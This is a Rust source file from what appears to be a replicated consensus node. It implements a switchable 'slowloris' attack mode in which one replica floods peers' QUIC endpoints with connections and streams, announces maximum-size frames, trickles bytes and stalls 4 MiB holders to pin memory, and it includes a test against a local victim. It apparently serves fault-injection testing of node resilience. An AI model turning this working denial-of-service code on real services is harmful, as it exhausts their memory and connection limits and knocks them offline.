//! The attack half of the `slowloris` behaviour. It is about connections and bytes, not
//! messages, so it lives in the node rather than in the consensus core (where the behaviour is
//! honest): while it is on, this replica opens plain client connections to every peer — no
//! certificate, as anyone on the network could — opens streams on them, announces frames of the
//! largest size a request may have and trickles their bytes in, a few at a time. A few streams
//! per connection push a good part of their frame at once and then stall, so a receiver
//! that buffers unfinished frames holds real memory for them. Whatever a peer closes is opened
//! again, at a bounded rate.
//!
//! The victims are the peers' client-facing side of the QUIC endpoint (the same endpoint and
//! runtime that carry consensus): connection and stream limits, frame buffers, request deadlines.
//! Toggled with the behaviour (`POST /admin/behaviour?name=slowloris`); its counters are in
//! `/metrics` as `quire_slowloris_*`.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use quinn::{Connection, Endpoint, SendStream};
use quire_chain::{PublicKey, ReplicaId, ValidatorSet};
use tokio::sync::watch;
use tokio::task::JoinSet;

use crate::rpc_server::REQUEST_BYTES_MAX;
use crate::transport::tls::{SERVER_NAME, client_config};

/// Connections held open to each peer.
const CONNECTIONS_PER_PEER: usize = 8;
/// Streams opened on each connection (QUIC lets a client open up to the server's limit).
const STREAMS_PER_CONNECTION: usize = 64;
/// Of those, streams that send a large part of their frame at once, then stall.
const HOLDERS_PER_CONNECTION: usize = 4;
/// What a holder sends before it stalls: 8 × 4 × 4 MiB = 128 MiB per victim that buffers
/// unfinished requests (the issue saw 8 streams of 8 MiB hold 80 MiB), enough to see in its
/// memory and too little to hurt the machine.
const HOLD_BYTES: usize = 4 * 1024 * 1024;
/// A trickling stream sends this many bytes…
const TRICKLE_BYTES: usize = 1;
/// …this often (well inside the connection's idle timeout, so nothing times out on its own).
const TRICKLE_EVERY: Duration = Duration::from_millis(500);
/// Pause before opening again what a peer closed (bounds the handshake rate per peer).
const REOPEN_PAUSE: Duration = Duration::from_millis(250);

/// What the attack did, for metrics.
#[derive(Debug, Default)]
pub struct SlowlorisStats {
    pub connections_opened: AtomicU64,
    pub connections_failed: AtomicU64,
    pub streams_opened: AtomicU64,
    pub bytes_sent: AtomicU64,
}

/// A peer to attack: its address and the key its server certificate must have.
#[derive(Clone, Debug)]
struct Target {
    id: ReplicaId,
    address: String,
    key: PublicKey,
}

/// The handle: switches the attack on and off.
pub struct Slowloris {
    on: watch::Sender<bool>,
    stats: Arc<SlowlorisStats>,
}

impl Slowloris {
    /// Starts the (idle) attack task for every validator but `me`, on the caller's runtime.
    pub fn start(me: ReplicaId, validators: &ValidatorSet) -> Slowloris {
        let targets: Vec<Target> = validators
            .iter()
            .filter(|v| v.id != me)
            .map(|v| Target {
                id: v.id,
                address: v.address.clone(),
                key: v.key,
            })
            .collect();
        let (on, watch) = watch::channel(false);
        let stats = Arc::new(SlowlorisStats::default());
        tokio::spawn(supervise(targets, watch, stats.clone()));
        Slowloris { on, stats }
    }

    pub fn set(&self, on: bool) {
        self.on
            .send_if_modified(|current| std::mem::replace(current, on) != on);
    }

    pub fn is_on(&self) -> bool {
        *self.on.borrow()
    }

    /// The counters in Prometheus text.
    pub fn metrics(&self) -> String {
        let s = &self.stats;
        let counters = [
            (
                "quire_slowloris_connections_opened_total",
                "Connections the slowloris attack opened to peers.",
                &s.connections_opened,
            ),
            (
                "quire_slowloris_connections_failed_total",
                "Connections of the slowloris attack refused or closed by peers.",
                &s.connections_failed,
            ),
            (
                "quire_slowloris_streams_opened_total",
                "Streams the slowloris attack opened.",
                &s.streams_opened,
            ),
            (
                "quire_slowloris_bytes_sent_total",
                "Bytes the slowloris attack trickled into peers.",
                &s.bytes_sent,
            ),
        ];
        let mut out = String::new();
        for (name, help, value) in counters {
            out += &format!(
                "# HELP {name} {help}\n# TYPE {name} counter\n{name} {}\n",
                value.load(Ordering::Relaxed)
            );
        }
        out
    }
}

/// Waits for the attack to be switched on, runs it until it is switched off, and so on.
async fn supervise(
    targets: Vec<Target>,
    mut on: watch::Receiver<bool>,
    stats: Arc<SlowlorisStats>,
) {
    loop {
        if on.wait_for(|on| *on).await.is_err() {
            return;
        }
        tracing::warn!(peers = targets.len(), "slowloris attack on");
        let endpoint = match client_endpoint() {
            Ok(e) => e,
            Err(error) => {
                tracing::error!(%error, "slowloris: no client endpoint");
                return;
            }
        };
        let mut attacks = JoinSet::new();
        for target in &targets {
            for _ in 0..CONNECTIONS_PER_PEER {
                attacks.spawn(hold_connection(
                    endpoint.clone(),
                    target.clone(),
                    stats.clone(),
                ));
            }
        }
        if on.wait_for(|on| !*on).await.is_err() {
            return;
        }
        // Dropping the tasks drops their streams; closing the endpoint tells the peers.
        attacks.shutdown().await;
        endpoint.close(0u32.into(), b"slowloris off");
        tracing::warn!("slowloris attack off");
    }
}

fn client_endpoint() -> std::io::Result<Endpoint> {
    Endpoint::client(SocketAddr::from(([0, 0, 0, 0], 0)))
}

/// Keeps one connection to `target` open and full of slow streams, for as long as the task
/// lives: a connection the peer closes is opened again after a pause.
async fn hold_connection(endpoint: Endpoint, target: Target, stats: Arc<SlowlorisStats>) {
    loop {
        match connect(&endpoint, &target).await {
            Some(conn) => {
                stats.connections_opened.fetch_add(1, Ordering::Relaxed);
                fill(&conn, &stats).await;
                stats.connections_failed.fetch_add(1, Ordering::Relaxed);
            }
            None => {
                stats.connections_failed.fetch_add(1, Ordering::Relaxed);
            }
        }
        tokio::time::sleep(REOPEN_PAUSE).await;
    }
}

async fn connect(endpoint: &Endpoint, target: &Target) -> Option<Connection> {
    let config = client_config(target.key).ok()?;
    let addr = tokio::net::lookup_host(target.address.as_str())
        .await
        .ok()?
        .find(SocketAddr::is_ipv4)?;
    let conn = endpoint
        .connect_with(config, addr, SERVER_NAME)
        .ok()?
        .await
        .map_err(|error| tracing::debug!(peer = target.id, %error, "slowloris: no connection"))
        .ok()?;
    Some(conn)
}

/// Opens the connection's streams and keeps them trickling until the connection ends.
async fn fill(conn: &Connection, stats: &Arc<SlowlorisStats>) {
    let mut streams = JoinSet::new();
    for i in 0..STREAMS_PER_CONNECTION {
        let Ok((send, _recv)) = conn.open_bi().await else {
            break;
        };
        stats.streams_opened.fetch_add(1, Ordering::Relaxed);
        let hold = i < HOLDERS_PER_CONNECTION;
        // `_recv` is dropped: we never read an answer (there is none until a frame completes).
        streams.spawn(trickle(send, hold, stats.clone()));
    }
    let _ = conn.closed().await;
    streams.shutdown().await;
}

/// One stream: announce a frame of the largest request size, then send its bytes slowly (or,
/// for a holder, a large part at once and then nothing).
async fn trickle(mut send: SendStream, hold: bool, stats: Arc<SlowlorisStats>) {
    let announced = u32::try_from(REQUEST_BYTES_MAX).unwrap_or(u32::MAX);
    if send.write_all(&announced.to_be_bytes()).await.is_err() {
        return;
    }
    stats.bytes_sent.fetch_add(4, Ordering::Relaxed);
    if hold {
        let chunk = vec![0u8; HOLD_BYTES];
        if send.write_all(&chunk).await.is_ok() {
            stats
                .bytes_sent
                .fetch_add(HOLD_BYTES as u64, Ordering::Relaxed);
        }
        // Stall: keep the stream (and whatever the peer buffered for it) until the end.
        std::future::pending::<()>().await;
    }
    let mut sent = 0usize;
    while sent + TRICKLE_BYTES < REQUEST_BYTES_MAX {
        tokio::time::sleep(TRICKLE_EVERY).await;
        if send.write_all(&[0u8; TRICKLE_BYTES]).await.is_err() {
            return;
        }
        sent += TRICKLE_BYTES;
        stats
            .bytes_sent
            .fetch_add(TRICKLE_BYTES as u64, Ordering::Relaxed);
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;
    use std::sync::atomic::AtomicUsize;

    use quire_chain::Keypair;
    use quire_chain::validators::Validator;

    use super::*;
    use crate::transport::tls::server_config;

    /// Generous: a loaded 2-core machine must not make this flake.
    const WAIT: Duration = Duration::from_secs(20);

    #[derive(Default)]
    struct Seen {
        connections: AtomicUsize,
        streams: AtomicUsize,
        /// Streams whose first four bytes announced the largest request.
        announced_max: AtomicUsize,
        /// Bytes received after the announcements.
        bytes: AtomicU64,
        /// Streams that delivered a holder's worth at once.
        holders: AtomicUsize,
    }

    /// A peer's client-facing endpoint that reads whatever arrives and counts it.
    async fn victim(identity: &Keypair, seen: Arc<Seen>) -> (Endpoint, SocketAddr) {
        let config = server_config(identity, Arc::new(BTreeMap::new())).unwrap();
        let endpoint = Endpoint::server(config, SocketAddr::from(([127, 0, 0, 1], 0))).unwrap();
        let addr = endpoint.local_addr().unwrap();
        let accept = endpoint.clone();
        tokio::spawn(async move {
            while let Some(incoming) = accept.accept().await {
                let seen = seen.clone();
                tokio::spawn(async move {
                    let Ok(conn) = incoming.await else { return };
                    seen.connections.fetch_add(1, Ordering::Relaxed);
                    while let Ok((_send, mut recv)) = conn.accept_bi().await {
                        let seen = seen.clone();
                        tokio::spawn(async move {
                            seen.streams.fetch_add(1, Ordering::Relaxed);
                            let mut prefix = [0u8; 4];
                            if recv.read_exact(&mut prefix).await.is_err() {
                                return;
                            }
                            if u32::from_be_bytes(prefix) as usize == REQUEST_BYTES_MAX {
                                seen.announced_max.fetch_add(1, Ordering::Relaxed);
                            }
                            let mut total = 0usize;
                            let mut buf = vec![0u8; 64 * 1024];
                            while let Ok(Some(n)) = recv.read(&mut buf).await {
                                total += n;
                                seen.bytes.fetch_add(n as u64, Ordering::Relaxed);
                                if total == HOLD_BYTES {
                                    seen.holders.fetch_add(1, Ordering::Relaxed);
                                }
                            }
                        });
                    }
                });
            }
        });
        (endpoint, addr)
    }

    async fn eventually(what: &str, condition: impl Fn() -> bool) {
        let waited = tokio::time::timeout(WAIT, async {
            while !condition() {
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        })
        .await;
        assert!(waited.is_ok(), "timed out waiting for {what}");
    }

    /// Switched on, the attack really does it: its connections, all their streams, announcing
    /// the largest request, trickling bytes, the holders' megabytes; switched off, it stops.
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn slowloris_opens_connections_and_streams_and_trickles_bytes() {
        let (me, peer) = (Keypair::from_secret([1; 32]), Keypair::from_secret([2; 32]));
        let seen = Arc::new(Seen::default());
        let (_endpoint, addr) = victim(&peer, seen.clone()).await;
        let validators = ValidatorSet::new(
            vec![
                Validator {
                    id: 0,
                    key: me.public(),
                    address: "127.0.0.1:1".into(),
                },
                Validator {
                    id: 1,
                    key: peer.public(),
                    address: addr.to_string(),
                },
            ],
            Some(0),
        )
        .unwrap();
        let attack = Slowloris::start(0, &validators);
        tokio::time::sleep(Duration::from_millis(200)).await;
        assert_eq!(seen.connections.load(Ordering::Relaxed), 0, "idle until on");
        attack.set(true);
        assert!(attack.is_on());
        let streams = CONNECTIONS_PER_PEER * STREAMS_PER_CONNECTION;
        eventually("every connection", || {
            seen.connections.load(Ordering::Relaxed) >= CONNECTIONS_PER_PEER
        })
        .await;
        eventually("every stream announcing the largest request", || {
            seen.announced_max.load(Ordering::Relaxed) >= streams
        })
        .await;
        eventually("the holders' bytes", || {
            seen.holders.load(Ordering::Relaxed) >= CONNECTIONS_PER_PEER * HOLDERS_PER_CONNECTION
        })
        .await;
        let held = seen.bytes.load(Ordering::Relaxed);
        eventually("trickled bytes", || {
            seen.bytes.load(Ordering::Relaxed) >= held + streams as u64 / 2
        })
        .await;
        assert!(
            attack
                .metrics()
                .contains("quire_slowloris_streams_opened_total")
        );
        attack.set(false);
        tokio::time::sleep(Duration::from_secs(1)).await;
        let after_off = seen.bytes.load(Ordering::Relaxed);
        tokio::time::sleep(TRICKLE_EVERY * 3).await;
        assert_eq!(
            seen.bytes.load(Ordering::Relaxed),
            after_off,
            "still trickling"
        );
    }
}
